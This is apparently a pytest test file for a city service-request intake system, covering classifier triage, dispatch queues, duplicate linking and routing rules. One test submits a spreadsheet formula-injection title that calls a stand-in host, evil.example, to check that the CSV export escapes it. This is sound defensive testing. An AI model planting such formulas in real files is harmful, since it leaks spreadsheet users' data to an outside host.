"""Intelligent intake through the API, on real Teddy Cup messages read by path: a confident request
is routed to its unit without a person, an unsure one waits in the dispatcher's queue with three
suggestions, a repeated one is linked to its open master and answered with it; and the routing
table (category × place → units) that decides where a request goes.

The classifier is the shipped method trained once on the training part of the fixed split; the
messages filed here come from the held-out part (never trained on) or from messages_with_votes.csv.
"""

from __future__ import annotations

import csv
import io
from collections import defaultdict
from datetime import UTC, datetime
from pathlib import Path

import pytest
from sqlalchemy import select

from civicloop.catalog.models import RoutingRule
from civicloop.catalog.routing import RoutePlace, choose_rule
from civicloop.core.db import session_factory
from civicloop.core.settings import Settings, get_settings
from civicloop.intelligence import classifier, model_store
from civicloop.intelligence.data import load_split, shared_data_dir
from civicloop.requests.models import RequestEvent, ServiceRequest
from tests.helpers import CLASSIFIER_TESTS, UNIT_OF_LABEL

pytestmark = CLASSIFIER_TESTS

API = "/api/v1"
OPERATOR = {"X-Civicloop-Actor": "operator-7", "X-Civicloop-Role": "operator"}
DISPATCHER = {"X-Civicloop-Actor": "dispatcher-1", "X-Civicloop-Role": "dispatcher"}
ADMIN = {"X-Civicloop-Actor": "admin-1", "X-Civicloop-Role": "admin"}
ANALYST = {"X-Civicloop-Actor": "analyst-1", "X-Civicloop-Role": "analyst"}
EN = {"Accept-Language": "en"}


@pytest.fixture
def settings(model_file: Path) -> Settings:
    """Intelligent intake on, with the model trained on the training split."""
    return Settings(_env_file=None, triage_on_intake=True, trust_role_headers=True, model_path=str(model_file),  # type: ignore[call-arg]
                    auto_dispatch_threshold=0.9)


@pytest.fixture(scope="module")
def held_out(trained_classifier: classifier.TextClassifier) -> list[tuple[str, str, str, float, str]]:
    """Held-out messages as (title, body, true label, confidence, predicted label)."""
    test = load_split().test
    predictions = trained_classifier.predict_many([(s.title, s.detail) for s in test])
    return [(s.title, s.detail, s.label, p.confidence, p.category) for s, p in zip(test, predictions, strict=True)]


def file(client, title: str, body: str, **extra) -> dict:
    response = client.post(f"{API}/requests", json={"title": title[:200], "description": body[:4000], **extra},
                           headers=OPERATOR)
    assert response.status_code == 201, response.text
    return response.json()


def test_confident_requests_go_to_their_unit_without_a_person(client, routed_city, held_out) -> None:
    confident = [m for m in held_out if m[3] >= 0.97 and m[2] in UNIT_OF_LABEL][:12]
    assert len(confident) == 12
    right = 0
    for title, body, label, _, _ in confident:
        out = file(client, title, body)
        assert out["status"] == "dispatched", out["triage"]
        assert out["triage"]["outcome"] == "auto_dispatched"
        assert out["triage"]["queued"] is False and out["triage"]["reasons"] == []
        assert out["work_orders"][0]["unit_id"] == out["lead_unit_id"]
        assert 0 < out["triage"]["latency_seconds"] < 60
        right += out["lead_unit_id"] == routed_city[UNIT_OF_LABEL[label]]
    assert right >= 11  # measured: calibrated confidence ≥ 0.97 is right about 99 % of the time
    stats = client.get(f"{API}/triage/stats", headers=ANALYST).json()
    assert stats["by_outcome"]["auto_dispatched"] == 12 and stats["auto_share"] == 1.0
    assert stats["latency_seconds"]["auto"]["n"] == 12 and stats["latency_seconds"]["auto"]["p50"] > 0


def test_a_street_matter_goes_to_the_street_of_its_address(client, routed_city, held_out) -> None:
    title, body, *_ = next(m for m in held_out if m[2] == "城乡建设" and m[4] == "城乡建设" and m[3] >= 0.95)
    out = file(client, title, body, address="云河区东桥街道")
    assert out["status"] == "dispatched"
    assert out["lead_unit_id"] == routed_city["D01-S02"]  # 东桥街道, 属地 rule of 城乡建设
    assert out["street_id"] == routed_city["D01-S02"] and out["district_id"] == routed_city["D01"]
    assistants = {o["unit_id"] for o in out["work_orders"] if o["role"] == "assisting"}
    assert routed_city["DEP-CG"] in assistants or routed_city["DEP-ZJ"] in assistants
    assert out["triage"]["place"]["street_id"] == routed_city["D01-S02"]


def test_without_a_place_a_street_matter_waits_for_a_person(client, routed_city, held_out) -> None:
    title, body, *_ = next(m for m in held_out if m[2] == "城乡建设" and m[4] == "城乡建设" and m[3] >= 0.95
                           and "街道" not in m[0] + m[1] and "区" not in m[0] + m[1])
    out = file(client, title, body)
    assert out["status"] == "submitted"
    assert out["triage"]["reasons"] == ["no_rule"]
    assert out["triage"]["reason_texts"] == ["没有适用的分拨规则"]


def test_an_unsure_request_waits_with_three_suggestions_and_the_choice_is_recorded(
    client, routed_city, held_out
) -> None:
    title, body, label, confidence, _ = next(m for m in held_out if m[3] < 0.6)
    out = file(client, title, body, address="青山区松林街道")
    request_id = out["id"]
    assert out["status"] == "submitted"
    triage = out["triage"]
    assert triage["outcome"] == "queued" and "low_confidence" in triage["reasons"]
    assert triage["confidence"] == pytest.approx(confidence, abs=1e-3)
    suggestions = triage["suggestions"]
    assert len(suggestions) == 3 and suggestions[0]["probability"] >= suggestions[1]["probability"]
    assert all(s["lead_unit_id"] and s["why"] for s in suggestions)  # every label routes in the sample city
    queue = client.get(f"{API}/dispatch-queue", headers={**DISPATCHER, **EN}).json()
    assert [item["request"]["id"] for item in queue] == [request_id]
    assert queue[0]["triage"]["reason_texts"][0] == "the category is uncertain"
    assert client.get(f"{API}/dispatch-queue", headers={"X-Civicloop-Role": "resident"}).status_code == 403

    category = client.get(f"{API}/categories", params={"level": 1}).json()
    chosen = next(c["id"] for c in category if c["name"] == label)
    decided = client.post(f"{API}/requests/{request_id}/decide", json={"category_id": chosen}, headers=DISPATCHER)
    assert decided.status_code == 200, decided.text
    record = decided.json()
    assert record["outcome"] == "decided" and record["queued"] is False
    expected_rank = next((i for i, s in enumerate(suggestions, 1) if s["category_id"] == chosen), 0)
    assert record["decided_rank"] == expected_rank
    assert record["decided_by"] == "dispatcher-1" and record["latency_seconds"] >= 0
    request = client.get(f"{API}/requests/{request_id}").json()
    assert request["status"] == "dispatched" and request["category_id"] == chosen
    assert client.get(f"{API}/dispatch-queue", headers=DISPATCHER).json() == []
    again = client.post(f"{API}/requests/{request_id}/decide", json={"category_id": chosen}, headers=DISPATCHER)
    assert again.status_code == 422 and again.json()["error"]["fields"][0]["field"] == "request_id"

    exported = client.get(f"{API}/triage/decisions.csv", headers=ANALYST)
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(exported.text.lstrip("\ufeff"))))
    assert [(r["request_id"], r["label"], r["decided_rank"]) for r in rows] == [
        (str(request_id), label, str(expected_rank))]
    assert client.get(f"{API}/triage/decisions.csv", headers=DISPATCHER).status_code == 403
    stats = client.get(f"{API}/triage/stats", headers=ANALYST).json()
    assert stats["by_outcome"]["decided"] == 1 and stats["decided_rank"][str(expected_rank)] == 1


def test_a_decision_needs_a_queued_request_and_known_ids(client, routed_city, held_out) -> None:
    title, body, *_ = next(m for m in held_out if m[3] < 0.6)
    request_id = file(client, title, body)["id"]
    bad = client.post(f"{API}/requests/{request_id}/decide", json={}, headers=DISPATCHER)
    assert bad.status_code == 422 and bad.json()["error"]["fields"][0]["field"] == "category_id"
    bad = client.post(f"{API}/requests/{request_id}/decide", json={"lead_unit_id": 999999}, headers=DISPATCHER)
    assert bad.status_code == 422 and bad.json()["error"]["fields"][0]["field"] == "lead_unit_id"
    bad = client.post(f"{API}/requests/{request_id}/decide", json={"lead_unit_id": "x"}, headers=DISPATCHER)
    assert bad.status_code == 422
    handler = {"X-Civicloop-Role": "handler", "X-Civicloop-Unit": str(routed_city["DEP-JT"])}
    hidden = client.post(f"{API}/requests/{request_id}/decide", json={"lead_unit_id": routed_city["DEP-JT"]},
                         headers=handler)
    assert hidden.status_code == 404  # a queued request has no order of the handler's unit: not even seen
    forbidden = client.post(f"{API}/requests/{request_id}/decide", json={"lead_unit_id": routed_city["DEP-JT"]},
                            headers={"X-Civicloop-Role": "analyst"})
    assert forbidden.status_code == 403
    assert client.get(f"{API}/requests/{request_id}").json()["status"] == "submitted"  # nothing half-way
    # a person may also handle a queued request through the plain endpoints: it leaves the queue
    assert client.post(f"{API}/requests/{request_id}/reject", json={"reason": "out_of_scope"},
                       headers=DISPATCHER).status_code == 200
    assert client.get(f"{API}/dispatch-queue", headers=DISPATCHER).json() == []
    assert client.get(f"{API}/requests/{request_id}/triage", headers=DISPATCHER).json()["outcome"] == "withdrawn"


def votes_duplicate_pair() -> tuple[dict, dict]:
    """The first exact duplicate title + body pair of messages_with_votes.csv, earliest first."""
    path = shared_data_dir() / "teddy2020c" / "messages_with_votes.csv"  # type: ignore[operator]
    seen: dict[tuple[str, str], list[dict]] = defaultdict(list)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        for row in csv.DictReader(handle):
            seen[(row["title"], row["detail"])].append(row)
    group = next(rows for rows in seen.values() if len(rows) == 2 and len(rows[0]["detail"]) < 1000)
    return group[0], group[1]


def test_a_repeated_request_is_linked_to_its_master_and_answered_with_it(client, routed_city, db) -> None:
    first, second = votes_duplicate_pair()
    master = file(client, first["title"], first["detail"], address="云河区望湖街道")
    repeat = file(client, second["title"], second["detail"], address="云河区望湖街道")
    assert repeat["status"] == "rejected" and repeat["reject_reason"] == "duplicate"
    assert repeat["duplicate_of_id"] == master["id"]
    assert repeat["triage"]["outcome"] == "duplicate" and repeat["triage"]["duplicate_score"] == 1.0
    assert client.get(f"{API}/requests/{master['id']}").json()["support_count"] == master["support_count"] + 1

    if master["status"] == "submitted":  # the master waits for a dispatcher: dispatch it by hand
        decided = client.post(f"{API}/requests/{master['id']}/decide",
                              json={"lead_unit_id": routed_city["D01-S01"]}, headers=DISPATCHER)
        assert decided.status_code == 200, decided.text
    order = client.get(f"{API}/requests/{master['id']}").json()["work_orders"][0]
    unit = {"X-Civicloop-Role": "handler", "X-Civicloop-Unit": str(order["unit_id"])}
    assert client.post(f"{API}/work-orders/{order['id']}/acknowledge", json={}, headers=unit).status_code == 200
    reply = "已联系相关部门现场核实并处理，感谢您的监督。"
    assert client.post(f"{API}/work-orders/{order['id']}/reply", json={"text": reply}, headers=unit).status_code == 200
    with session_factory(db)() as s:
        answers = s.scalars(select(RequestEvent).where(RequestEvent.request_id == repeat["id"],
                                                       RequestEvent.action == "answer_duplicate")).all()
        assert [(a.reason, a.data["master_id"]) for a in answers] == [(reply, master["id"])]
        assert s.get(ServiceRequest, master["id"]).status == "replied"


def test_without_a_model_every_request_waits(client, routed_city, held_out, tmp_path: Path) -> None:
    client.app.dependency_overrides[get_settings] = lambda: Settings(  # type: ignore[call-arg]
        _env_file=None, triage_on_intake=True, model_path=str(tmp_path / "none.joblib"))
    title, body, *_ = held_out[0]
    out = file(client, title, body)
    assert out["status"] == "submitted" and out["triage"]["reasons"] == ["no_model"]


def test_a_category_given_by_the_operator_is_routed_at_once(client, routed_city) -> None:
    category = routed_city["cat:城乡建设/供水供电/停水"]
    out = file(client, "小区停水三天了", "小区从周一开始停水，至今没有通知何时恢复。", category_id=category)
    assert out["status"] == "dispatched" and out["lead_unit_id"] == routed_city["UT-WATER"]
    assert out["triage"]["suggestions"][0]["level_confidence"] == "given"
    assert out["deadline_tier"] == "24h"


# --- the routing table -------------------------------------------------------------------------------


def rule(rule_id: int, *, category: int | None = None, district: int | None = None, street: int | None = None,
         target: str = "unit", lead: int | None = 100, priority: int = 0, active: bool = True) -> RoutingRule:
    return RoutingRule(id=rule_id, category_id=category, district_id=district, street_id=street, lead_target=target,
                       lead_unit_id=lead if target == "unit" else None, assisting_unit_ids=[], priority=priority,
                       active=active, note="", updated_by="", updated_at=datetime.now(UTC))


def test_choose_rule_prefers_priority_then_depth_then_place() -> None:
    chain = [30, 20, 10]  # leaf 30 under 20 under level-1 10
    place = RoutePlace(district_id=1, street_id=11, community_id=111)
    anywhere, level1, leaf = rule(1), rule(2, category=10), rule(3, category=30)
    in_street = rule(4, category=10, street=11)
    other_category = rule(5, category=99)
    assert choose_rule([anywhere, level1, leaf, in_street], category_chain=chain, place=place) is leaf
    assert choose_rule([anywhere, level1, in_street], category_chain=chain, place=place) is in_street
    assert choose_rule([anywhere, level1], category_chain=chain, place=place) is level1
    assert choose_rule([anywhere, rule(6, priority=5)], category_chain=chain, place=place).id == 6
    assert choose_rule([other_category], category_chain=chain, place=place) is None
    assert choose_rule([rule(7, category=30, active=False)], category_chain=chain, place=place) is None
    elsewhere = RoutePlace(district_id=2, street_id=21)
    assert choose_rule([in_street, level1], category_chain=chain, place=elsewhere) is level1
    territorial = rule(8, category=10, target="street")
    assert choose_rule([territorial], category_chain=chain, place=RoutePlace(district_id=1)) is None
    assert choose_rule([territorial], category_chain=chain, place=place) is territorial


def test_routing_table_api(client, routed_city) -> None:
    base = {"lead_target": "unit", "lead_unit_id": routed_city["DEP-HB"],
            "category_id": routed_city["cat:环境保护/噪声污染"], "street_id": routed_city["D02-S01"]}
    assert client.post(f"{API}/routing-rules", json=base, headers=DISPATCHER).status_code == 403
    created = client.post(f"{API}/routing-rules", json=base, headers=ADMIN)
    assert created.status_code == 201, created.text
    rule_id = created.json()["id"]
    resolved = client.get(f"{API}/routing-rules/resolve", params={
        "category_id": routed_city["cat:环境保护/噪声污染/施工噪声"], "district_id": routed_city["D02"],
        "street_id": routed_city["D02-S01"]}).json()
    assert resolved["rule_id"] == rule_id and resolved["lead_unit_id"] == routed_city["DEP-HB"]
    elsewhere = client.get(f"{API}/routing-rules/resolve", params={
        "category_id": routed_city["cat:环境保护/噪声污染/施工噪声"], "district_id": routed_city["D01"],
        "street_id": routed_city["D01-S03"]}).json()
    assert elsewhere["lead_unit_id"] == routed_city["D01-S03"]  # the 属地 rule of 环境保护
    nothing = client.get(f"{API}/routing-rules/resolve", params={"category_id": routed_city["cat:环境保护"]}).json()
    assert nothing["why"] == "没有适用的分拨规则"
    english = client.get(f"{API}/routing-rules/resolve", params={"category_id": routed_city["cat:环境保护"]},
                         headers=EN).json()
    assert english["why"] == "no routing rule applies"
    # found by a user trial: resolve accepted a street outside the district that a rule would refuse
    outside = client.get(f"{API}/routing-rules/resolve", params={"district_id": routed_city["D02"],
                                                                 "street_id": routed_city["D01-S01"]})
    assert outside.status_code == 422 and outside.json()["error"]["fields"][0]["field"] == "street_id"
    assert nothing["rule_id"] is None

    for body, field in [
        ({**base, "lead_unit_id": None}, "lead_unit_id"),
        ({**base, "lead_target": "street"}, "lead_unit_id"),
        ({**base, "district_id": routed_city["D01"]}, "street_id"),
        ({**base, "street_id": routed_city["D01"]}, "street_id"),
        ({**base, "category_id": 999999}, "category_id"),
        ({**base, "assisting_unit_ids": [routed_city["DEP-HB"]]}, "assisting_unit_ids.0"),
        ({**base, "lead_target": "everyone"}, "lead_target"),
        ({**base, "priority": "high"}, "priority"),
    ]:
        response = client.post(f"{API}/routing-rules", json=body, headers={**ADMIN, **EN})
        assert response.status_code == 422, (body, response.text)
        assert response.json()["error"]["fields"][0]["field"] == field

    replaced = client.put(f"{API}/routing-rules/{rule_id}", json={**base, "active": False}, headers=ADMIN)
    assert replaced.status_code == 200 and replaced.json()["active"] is False
    assert client.get(f"{API}/routing-rules", params={"active": False}).json()[0]["id"] == rule_id
    # found by a user trial: a PUT naming only some fields widened the rule to every category
    narrowed = client.put(f"{API}/routing-rules/{rule_id}", json={"lead_target": "unit", "priority": 3}, headers=ADMIN)
    assert narrowed.status_code == 200, narrowed.text
    assert narrowed.json()["category_id"] == base["category_id"] and narrowed.json()["priority"] == 3
    territorial = client.put(f"{API}/routing-rules/{rule_id}", json={"lead_target": "street"}, headers=ADMIN)
    assert territorial.status_code == 422  # the rule still names a lead unit: say so rather than drop it
    assert territorial.json()["error"]["fields"][0]["field"] == "lead_unit_id"
    assert client.delete(f"{API}/routing-rules/{rule_id}", headers=ADMIN).status_code == 204
    assert client.delete(f"{API}/routing-rules/{rule_id}", headers=ADMIN).status_code == 404
    assert client.put(f"{API}/routing-rules/{rule_id}", json=base, headers=ADMIN).status_code == 404


def test_a_rule_whose_unit_was_deactivated_does_not_fire(session, routed_city) -> None:
    from civicloop.catalog.routing import route
    from civicloop.org.models import OrgUnit

    category = routed_city["cat:交通运输/道路交通/违章停车"]
    assert route(session, category_id=category, place=RoutePlace()).lead_unit_id == routed_city["DEP-JT"]
    session.get(OrgUnit, routed_city["DEP-JT"]).active = False
    session.add(rule(900, category=category, lead=routed_city["DEP-CG"], priority=-1))
    session.flush()
    found = route(session, category_id=category, place=RoutePlace())
    assert found is not None and found.lead_unit_id == routed_city["DEP-CG"]


def test_a_given_category_without_a_route_waits_instead_of_failing(client, routed_city) -> None:
    # found by a user trial: 城乡建设 routes to the street of the place, and this request has no place
    category = routed_city["cat:城乡建设/市政设施/路灯不亮"]
    out = file(client, "路灯坏了", "小区门口路灯坏了", category_id=category)
    assert out["status"] == "submitted" and out["triage"]["reasons"] == ["no_rule"]
    assert out["triage"]["queued"] is True and out["category_id"] == category
    far = file(client, "路灯坏了", "门口路灯坏了一周", category_id=category, lat=0.0, lon=0.0)
    assert far["status"] == "submitted" and far["triage"]["reasons"] == ["no_rule"]


def test_decisions_export_is_formula_safe_and_finer_choices_count_for_their_suggestion(
    client, routed_city, held_out
) -> None:
    # found by a user trial: "=HYPERLINK(…)" titles ran in Excel; unit-only decisions gave an empty label;
    # choosing a finer category than the suggested one counted as "none of the suggestions"
    title, body, *_ = next(m for m in held_out if m[3] < 0.6)
    risky = file(client, '=HYPERLINK("http://evil.example/?x="&A1,"点击")', body, address="青山区松林街道")
    suggestion = risky["triage"]["suggestions"][0]
    level1 = suggestion["category_id"]
    finer = next(c["id"] for c in client.get(f"{API}/categories").json()
                 if c["parent_id"] == level1 or (c["path"].startswith(suggestion["path"] + "/")))
    decided = client.post(f"{API}/requests/{risky['id']}/decide",
                          json={"category_id": finer, "lead_unit_id": suggestion["lead_unit_id"]}, headers=DISPATCHER)
    assert decided.status_code == 200, decided.text
    assert decided.json()["decided_rank"] == 1
    unit_only = file(client, title, body + "（另案）")
    assert client.post(f"{API}/requests/{unit_only['id']}/decide", json={"lead_unit_id": routed_city["DEP-JT"]},
                       headers=DISPATCHER).status_code == 200
    rows = list(csv.DictReader(io.StringIO(client.get(f"{API}/triage/decisions.csv", headers=ANALYST).text.lstrip(
        "\ufeff"))))
    assert [r["request_id"] for r in rows] == [str(risky["id"])]
    assert rows[0]["title"].startswith("'=HYPERLINK(") and rows[0]["label"] == suggestion["label"]


def test_the_app_loads_the_model_at_start(model_file: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # found by a user trial: the first request after `civicloop serve` waited 1.7 s for the model
    from fastapi.testclient import TestClient

    from civicloop.app import create_app

    monkeypatch.setenv("CIVICLOOP_MODEL_PATH", str(model_file))
    monkeypatch.setenv("CIVICLOOP_TRIAGE_ON_INTAKE", "true")
    get_settings.cache_clear()
    model_store._CURRENT.pop(model_file, None)
    try:
        with TestClient(create_app()):
            assert model_file in model_store._CURRENT
    finally:
        get_settings.cache_clear()


def test_the_queue_puts_urgent_matters_first(client, routed_city) -> None:
    # found by a user trial: a 2-hour matter waited at the end of a first-come-first-served queue
    lamp = file(client, "路灯坏了", "小区门口路灯坏了一周", category_id=routed_city["cat:城乡建设/市政设施/路灯不亮"])
    danger = file(client, "楼道安全隐患", "楼道里堆满杂物，存在严重安全隐患",
                  category_id=routed_city["cat:城乡建设/安全生产/安全隐患"])
    later_lamp = file(client, "路灯不亮", "三号楼路灯不亮，晚上很黑",
                      category_id=routed_city["cat:城乡建设/市政设施/路灯不亮"])
    assert danger["deadline_tier"] == "2h" and lamp["deadline_tier"] == "7wd"
    queue = client.get(f"{API}/dispatch-queue", headers=DISPATCHER).json()
    assert [item["request"]["id"] for item in queue] == [danger["id"], lamp["id"], later_lamp["id"]]
    second_page = client.get(f"{API}/dispatch-queue", params={"limit": 1, "offset": 1}, headers=DISPATCHER).json()
    assert [item["request"]["id"] for item in second_page] == [lamp["id"]]


def test_every_queue_reason_is_explained_in_both_languages() -> None:
    from civicloop.core.i18n import catalogue
    from civicloop.requests.triage import QUEUE_REASONS

    for code in QUEUE_REASONS:
        zh, en = catalogue("zh")[f"triage.{code}"], catalogue("en")[f"triage.{code}"]
        assert zh and en and zh != en
